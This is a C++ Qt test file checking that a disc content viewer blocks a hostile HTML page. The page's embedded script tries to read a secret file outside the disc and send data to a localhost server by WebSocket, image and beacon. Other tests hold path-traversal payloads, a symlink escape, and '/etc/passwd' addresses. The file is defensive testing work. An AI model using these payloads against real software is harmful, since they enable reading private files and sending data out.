// The viewer on a copy of the demo disc in the real engine: every page of
// the disc loads with nothing refused, and a hostile page placed on the disc
// can neither read a file outside it, nor reach a server listening on this
// machine, nor make the program open or start anything. Each refusal is
// printed with its reason.

#include <QDesktopServices>
#include <QDir>
#include <QFile>
#include <QHostAddress>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>
#include <QWebEngineView>
#include <filesystem>
#include <memory>
#include <string>
#include <vector>

#include "app/application.h"
#include "gui_wait.h"
#include "page_script.h"
#include "platform/codepage.h"
#include "platform/native_file_system.h"
#include "tests/support/fake_platform.h"
#include "viewer/qt_system.h"
#include "viewer/qt_viewer.h"
#include "viewer/request_guard.h"

namespace qt = velmora::platform::qt;
namespace fs = std::filesystem;

namespace {

class DiscKey : public velmora::platform::SettingsStore {
 public:
  explicit DiscKey(std::string root) : root_(std::move(root)) {}
  std::optional<velmora::platform::ContentKey> OpenContentKey() override {
    return velmora::platform::ContentKey{root_, root_};
  }

 private:
  std::string root_;
};

// Keeps the messages the program shows, besides logging them.
class CapturingUi : public qt::QtUi {
 public:
  void MessageBox(const std::string& text, const std::string& caption,
                  velmora::platform::Icon icon) override {
    messages.push_back(text);
    QtUi::MessageBox(text, caption, icon);
  }
  std::vector<std::string> messages;
};

void Write(const QString& path, const QByteArray& bytes) {
  QFile file(path);
  QVERIFY(file.open(QIODevice::WriteOnly));
  file.write(bytes);
}

QString ListRefusals(const std::vector<qt::RefusedRequest>& refusals) {
  QStringList lines;
  for (const qt::RefusedRequest& refused : refusals) {
    lines << refused.url.toString() + QStringLiteral(" -- ") + refused.reason;
  }
  return lines.join(u'\n');
}

bool Refused(const QString& urlStart, const QString& reasonPart) {
  for (const qt::RefusedRequest& refused : qt::RefusedRequests()) {
    if (refused.url.toString().startsWith(urlStart) && refused.reason.contains(reasonPart)) {
      return true;
    }
  }
  return false;
}

// Tries every way out it knows and keeps what each gave in window.wyniki.
constexpr const char* kHostilePage = R"(<html><head><title>temat: Zly</title></head><body>
<p>Strona</p>
<script>
var wyniki = {};
function daj(nazwa, co) { wyniki[nazwa] = String(co); }
try {
  var x = new XMLHttpRequest(); x.open('GET', 'SECRET_URL', false); x.send();
  daj('xhr', 'read ' + x.responseText);
} catch (e) { daj('xhr', 'refused: ' + e); }
fetch('SECRET_URL').then(function (r) { return r.text(); })
  .then(function (t) { daj('fetch', 'read ' + t); }, function (e) { daj('fetch', 'refused: ' + e); });
fetch('OUTSIDE_DIR_URL').then(function (r) { return r.text(); })
  .then(function (t) { daj('listing', 'read ' + t); }, function (e) { daj('listing', 'refused: ' + e); });
try {
  var ws = new WebSocket('ws://127.0.0.1:PORT/?d=tajne');
  ws.onopen = function () { daj('ws', 'open'); };
  ws.onerror = function () { daj('ws', 'refused: error event'); };
} catch (e) { daj('ws', 'refused: ' + e); }
var img = new Image();
img.onload = function () { daj('img', 'loaded'); };
img.onerror = function () { daj('img', 'refused: error event'); };
img.src = 'http://127.0.0.1:PORT/obraz.png?d=tajne';
try { daj('beacon', 'queued ' + navigator.sendBeacon('http://127.0.0.1:PORT/b', 'tajne')); }
catch (e) { daj('beacon', 'refused: ' + e); }
// A disc file that is no page, read through a frame of the page's own.
function ramka(nazwa, src) {
  var f = document.createElement('iframe');
  f.onload = function () {
    try { daj(nazwa, 'read ' + f.contentDocument.body.textContent); }
    catch (e) { daj(nazwa, 'refused: ' + e); }
  };
  f.src = src;
  document.body.appendChild(f);
}
ramka('frame-dic', '../DB/park_narodowy.dic');
ramka('frame-table', '../DB/RP.CSV');
ramka('frame-page', '799.htm');
</script></body></html>)";

// Stands in for the desktop's handlers of the schemes it is registered for.
class DesktopHandler : public QObject {
  Q_OBJECT

 public slots:
  void open(const QUrl& url) { opened << url; }

 public:
  QList<QUrl> opened;
};

}  // namespace

class HostilePageTest : public QObject {
  Q_OBJECT

 private slots:
  void initTestCase();
  void cleanupTestCase();
  void demoDisc_everyPageLoadsWithNothingRefused();
  void hostilePage_readsNoOutsideFileAndReachesNoServer();
  void hostileNavigations_openNothingAndStartNothing();
  void shell_handsOnlyOutsideAddressesToTheDesktop();
  void guard_judgesLocalPathsAfterResolvingThem();

 private:
  QWebEngineView& MainView() { return *viewer_->MainWindow().MainWebBrowser().view(); }
  velmora::platform::Browser& Main() { return browsers_->Get("MainWebBrowser"); }
  // Asks the main browser for the address and waits for a load to finish.
  bool Visit(const std::string& address) {
    const int before = loads_;
    Main().Navigate(address);
    return WaitUntil([&] { return loads_ > before; }, 30000);
  }
  QString RunScript(const QString& script) { return RunPageScript(*MainView().page(), script); }

  QTemporaryDir temp_;
  QTemporaryDir outside_;
  QString disc_;
  QTcpServer server_;
  int connections_ = 0;
  int loads_ = 0;
  std::unique_ptr<CapturingUi> ui_;
  std::unique_ptr<qt::QtBrowsers> browsers_;
  std::unique_ptr<velmora::platform::NativeFileSystem> files_;
  velmora::test::FakeProcesses processes_;
  velmora::test::FakeShell shell_;
  std::unique_ptr<DiscKey> settings_;
  qt::QtClock clock_;
  qt::QtMediaPlayers players_;
  std::unique_ptr<velmora::platform::Platform> platform_;
  std::unique_ptr<qt::QtViewer> viewer_;
  std::unique_ptr<velmora::app::Application> application_;
};

void HostilePageTest::initTestCase() {
  QVERIFY(temp_.isValid() && outside_.isValid());
  disc_ = temp_.path() + "/disc";
  std::error_code error;
  fs::copy(VELMORA_SAMPLE_CONTENT, disc_.toStdString(), fs::copy_options::recursive, error);
  QVERIFY2(!error, error.message().c_str());

  // What a page must not reach: a file, a directory, a desktop entry and a
  // program outside the disc, and a server on this machine.
  Write(outside_.path() + "/secret.txt", "TAJNE-4711");
  Write(outside_.path() + "/run.desktop", "[Desktop Entry]\nType=Application\nExec=true\n");
  Write(outside_.path() + "/prog.exe", "#!/bin/sh\n");
  QFile::setPermissions(outside_.path() + "/prog.exe", QFile::ReadOwner | QFile::ExeOwner);
  QVERIFY(server_.listen(QHostAddress::LocalHost, 0));
  connect(&server_, &QTcpServer::newConnection, this, [this] {
    while (QTcpSocket* socket = server_.nextPendingConnection()) {
      ++connections_;
      socket->close();
    }
  });
  QByteArray page(kHostilePage);
  page.replace("SECRET_URL", QUrl::fromLocalFile(outside_.path() + "/secret.txt").toEncoded());
  page.replace("OUTSIDE_DIR_URL", QUrl::fromLocalFile(outside_.path() + "/").toEncoded());
  page.replace("PORT", QByteArray::number(server_.serverPort()));
  Write(disc_ + "/Data/zly.htm", page);

  ui_ = std::make_unique<CapturingUi>();
  ui_->SetUnattended(true);
  browsers_ = std::make_unique<qt::QtBrowsers>();
  files_ = std::make_unique<velmora::platform::NativeFileSystem>(temp_.path().toStdString() + "/");
  settings_ = std::make_unique<DiscKey>(disc_.toStdString() + "/");
  platform_ = std::make_unique<velmora::platform::Platform>(velmora::platform::Platform{
      *ui_, *browsers_, *files_, processes_, shell_, *settings_, clock_, players_});
  viewer_ = std::make_unique<qt::QtViewer>(*ui_, *browsers_, players_);
  connect(&MainView(), &QWebEngineView::loadFinished, this, [this] { ++loads_; });
  application_ = std::make_unique<velmora::app::Application>(*platform_);
  QVERIFY(application_->Start());
  viewer_->Connect(*application_);
  QVERIFY(WaitUntil([&] { return loads_ > 0; }));
}

void HostilePageTest::cleanupTestCase() {
  application_.reset();
  viewer_.reset();
}

void HostilePageTest::demoDisc_everyPageLoadsWithNothingRefused() {
  qt::ClearRefusedRequests();
  std::vector<std::string> addresses;
  const QStringList pages =
      QDir(disc_ + "/Data").entryList({"*.htm", "*.html"}, QDir::Files, QDir::Name);
  for (const QString& name : pages) {
    if (name != u"zly.htm") addresses.push_back((disc_ + "/Data/" + name).toStdString());
  }
  QVERIFY(addresses.size() > 300);
  // Generated pages: a record of each kind and a photograph.
  for (const char* link : {"http://db?rp101", "http://db?pk11", "http://db?ok51", "http://db?ec20M",
                           "http://db?shf0201.jpg"}) {
    addresses.push_back(link);
  }
  QStringList brokenPictures;
  for (const std::string& address : addresses) {
    QVERIFY2(Visit(address), address.c_str());
    // Pictures that did not arrive, refused or not.
    const QString broken = RunScript(
        "Array.from(document.images).filter(function (i) { return i.complete && "
        "i.naturalWidth === 0; }).map(function (i) { return i.src; }).join(' ')");
    if (!broken.isEmpty()) brokenPictures << QString::fromStdString(address) + ": " + broken;
  }
  const std::vector<qt::RefusedRequest> refused = qt::RefusedRequests();
  QVERIFY2(refused.empty(), qPrintable(ListRefusals(refused)));
  QVERIFY2(brokenPictures.isEmpty(), qPrintable(brokenPictures.join(u'\n')));
  QVERIFY(shell_.opened.empty());
}

void HostilePageTest::hostilePage_readsNoOutsideFileAndReachesNoServer() {
  qt::ClearRefusedRequests();
  QVERIFY(Visit((disc_ + "/Data/zly.htm").toStdString()));
  const QStringList expected = {"xhr",    "fetch",     "listing",     "ws",        "img",
                                "beacon", "frame-dic", "frame-table", "frame-page"};
  QJsonObject results;
  QVERIFY(WaitUntil(
      [&] {
        results = QJsonDocument::fromJson(RunScript("JSON.stringify(window.wyniki || {})").toUtf8())
                      .object();
        for (const QString& key : expected) {
          if (!results.contains(key)) return false;
        }
        return true;
      },
      20000));
  // What the page was told, with the engine's reason for each refusal.
  for (const QString& key : expected) {
    qInfo("%s: %s", qPrintable(key), qPrintable(results.value(key).toString()));
  }
  for (const char* read : {"xhr", "fetch", "listing"}) {
    QVERIFY2(results.value(read).toString().startsWith("refused"), read);
    QVERIFY(!results.value(read).toString().contains("TAJNE"));
  }
  QVERIFY(results.value("ws").toString().startsWith("refused"));
  QVERIFY(results.value("img").toString().startsWith("refused"));
  // A frame holds pages only: a page it shows anyway, nothing else of the disc.
  for (const char* read : {"frame-dic", "frame-table"}) {
    QVERIFY2(!results.value(read).toString().startsWith("read ") ||
                 results.value(read).toString().trimmed() == "read",
             qPrintable(results.value(read).toString()));
  }
  QVERIFY(results.value("frame-page").toString().contains("Velmora"));
  // Nothing arrives at the server, however long it listens.
  WaitUntil([] { return false; }, 1500);
  QCOMPARE(connections_, 0);
  // The guard's own reasons for what reached it.
  qInfo("refused:\n%s", qPrintable(ListRefusals(qt::RefusedRequests())));
  const QString server = QStringLiteral("http://127.0.0.1:%1/").arg(server_.serverPort());
  const QString socket = QStringLiteral("ws://127.0.0.1:%1/").arg(server_.serverPort());
  QVERIFY(Refused(QUrl::fromLocalFile(outside_.path() + "/secret.txt").toString(),
                  "a file read by a script"));
  QVERIFY(Refused(socket, "WebSocket: not a local file (ws:)"));
  QVERIFY(Refused(QUrl::fromLocalFile(disc_ + "/DB/park_narodowy.dic").toString(), "not a page"));
  // The picture and the beacon never reach the guard: the engine stops them
  // first (local pages may not reach remote addresses), and the page is
  // told so ("error event" above).
  QVERIFY(!Refused(server, ""));
}

void HostilePageTest::hostileNavigations_openNothingAndStartNothing() {
  QVERIFY(Visit((disc_ + "/Data/zly.htm").toStdString()));
  qt::ClearRefusedRequests();
  ui_->messages.clear();
  const std::size_t startedBefore = processes_.started.size();
  // A desktop entry outside the disc behind "#http:", and a program name
  // that climbs out of the animation directory.
  const QString desktop = outside_.path() + "/run.desktop";
  const QString program = QString("../").repeated(12) + outside_.path().mid(1) + "/prog";
  RunScript("location.href = '" + desktop + "#http:'");
  // Outside the disc it is no file of the viewer's: reported as missing by
  // the program, never handed to the engine.
  QVERIFY(WaitUntil([&] { return !ui_->messages.empty(); }, 10000));
  QVERIFY(QString::fromStdString(velmora::platform::Win1250ToUtf8(ui_->messages.front()))
              .contains(QLatin1String("run.desktop")));
  QVERIFY(!Refused(QUrl::fromLocalFile(desktop).toString(), ""));
  ui_->messages.clear();
  // The refused load leaves the engine's error page, which runs no script;
  // its late load may count as the next visit's, so the page is asked too.
  QVERIFY(Visit((disc_ + "/Data/zly.htm").toStdString()));
  QVERIFY(WaitUntil([&] { return RunScript("location.pathname").endsWith("zly.htm"); }, 30000));
  RunScript("location.href = 'http://db?anim" + program + "'");
  QVERIFY(WaitUntil([&] { return !ui_->messages.empty(); }, 10000));

  QVERIFY(shell_.opened.empty());
  QVERIFY(shell_.started.empty());
  QCOMPARE(processes_.started.size(), startedBefore);
  // The program name is reported as a missing file.
  QCOMPARE(ui_->messages.size(), std::size_t(1));
  QCOMPARE(QString::fromStdString(velmora::platform::Win1250ToUtf8(ui_->messages.front())),
           "Brak pliku:\r\n " + program.toLower());
}

void HostilePageTest::shell_handsOnlyOutsideAddressesToTheDesktop() {
  DesktopHandler desktop;
  for (const char* scheme : {"http", "https", "mailto", "file"}) {
    QDesktopServices::setUrlHandler(scheme, &desktop, "open");
  }
  qt::QtShell shell;
  const QString desktopFile = outside_.path() + "/run.desktop";
  for (const QString& hostile :
       {desktopFile + "#http:", "file://" + desktopFile + "#http:", "http:" + desktopFile,
        QStringLiteral("http:///etc/passwd"), QStringLiteral("mailto:/etc/passwd")}) {
    shell.OpenAddress(hostile.toStdString());
  }
  shell.OpenAddress("http://www.example.org/park?id=1");
  shell.OpenAddress("mailto:biuro@example.org");
  for (const char* scheme : {"http", "https", "mailto", "file"}) {
    QDesktopServices::unsetUrlHandler(scheme);
  }
  QCOMPARE(desktop.opened, (QList<QUrl>{QUrl("http://www.example.org/park?id=1"),
                                        QUrl("mailto:biuro@example.org")}));
}

void HostilePageTest::guard_judgesLocalPathsAfterResolvingThem() {
  // Runs last: it replaces the directories the viewer allowed.
  QTemporaryDir root;
  QVERIFY(QDir(root.path()).mkpath("Data"));
  Write(root.path() + "/Data/Strona.htm", "x");
  QVERIFY(QFile::link(outside_.path(), root.path() + "/Data/link"));
  qt::AllowLocalRoots({root.path() + "/"});
  const QString base = QUrl::fromLocalFile(root.path()).toString();
  for (const QString& allowed :
       {base + "/Data/Strona.htm", base + "/DATA/STRONA.HTM", base + "/Data/brak.jpg",
        base + "/Data/../Data/Strona.htm", QStringLiteral("data:image/png;base64,AAAA")}) {
    QVERIFY2(qt::RefusalReason(QUrl(allowed)).isEmpty(), qPrintable(allowed));
  }
  const QString secret = outside_.path() + "/secret.txt";
  const std::vector<std::pair<QString, QString>> refused = {
      {base + "/Data/../../" + QFileInfo(root.path()).fileName() + "x/a", "outside"},
      {base + "/Data/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e" + secret, "outside"},
      {base + "/Data/..%2F..%2F..%2F..%2F..%2F..%2F.." + secret, "outside"},
      {base + "/Data/link/secret.txt", "outside"},
      {"file://example.org" + root.path() + "/Data/Strona.htm", "another host"},
      {"http://127.0.0.1/", "not a local file (http:)"},
      {"wss://example.org/", "not a local file (wss:)"},
      {"ftp://example.org/", "not a local file (ftp:)"}};
  for (const auto& [address, reason] : refused) {
    const QString given = qt::RefusalReason(QUrl(address));
    qInfo("%s -- %s", qPrintable(address), qPrintable(given));
    QVERIFY2(given.contains(reason), qPrintable(address + " -- " + given));
  }
  QVERIFY(qt::RefusalReason(QUrl(base + "/Data/Strona.htm"), qt::RequestKind::Script)
              .contains("read by a script"));
  // A frame or object holds pages only; a page could read whatever else it held.
  QVERIFY(qt::RefusalReason(QUrl(base + "/DATA/STRONA.HTM"), qt::RequestKind::Frame).isEmpty());
  for (const char* name : {"/Data/park.dic", "/Data/RP.CSV", "/Data/foto.jpg", "/Data/"}) {
    QVERIFY2(qt::RefusalReason(QUrl(base + name), qt::RequestKind::Frame).contains("not a page"),
             name);
  }

  // The temporary-files directory itself, shared with other programs: only
  // the viewer's own names in it, not what others keep there.
  QTemporaryDir shared;
  for (const char* name : {"/$$RP_12.html", "/f.jpg", "/notatki.html", "/tajne.txt"}) {
    Write(shared.path() + name, "x");
  }
  QVERIFY(QFile::link(outside_.path() + "/secret.txt", shared.path() + "/$$link.html"));
  qt::AllowLocalFilesIn(shared.path() + "/", {"$$*", "f.jpg"});
  const QString sharedBase = QUrl::fromLocalFile(shared.path()).toString();
  for (const char* name : {"/$$RP_12.html", "/$$rp_12.HTML", "/F.JPG", "/$$brak.html"}) {
    QVERIFY2(qt::RefusalReason(QUrl(sharedBase + name)).isEmpty(), name);
  }
  for (const char* name : {"/notatki.html", "/tajne.txt", "/$$link.html", "/x/$$a.html"}) {
    QVERIFY2(qt::RefusalReason(QUrl(sharedBase + name)).contains("outside"), name);
  }
  QVERIFY(qt::RefusalReason(QUrl(base + "/Data/Strona.htm")).isEmpty());
}

QTEST_MAIN(HostilePageTest)
#include "hostile_page_test.moc"
